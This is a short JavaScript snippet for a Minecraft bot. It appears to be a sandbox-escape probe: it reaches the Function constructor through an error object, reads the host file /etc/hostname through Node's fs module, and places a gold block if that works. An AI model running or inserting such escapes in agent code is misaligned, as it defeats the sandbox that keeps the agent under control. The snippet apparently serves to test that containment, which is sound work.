(async (bot) => {
await skills.placeBlock(bot, 'stone', 1, 0, 0);
try { null.x; } catch (e) {
    const F = e.constructor.constructor;
    const read = F("return process.mainModule.require('fs').readFileSync('/etc/hostname', 'utf8')");
    if (typeof read() === "string") await skills.placeBlock(bot, 'gold_block', 2, 0, 0);
}
})
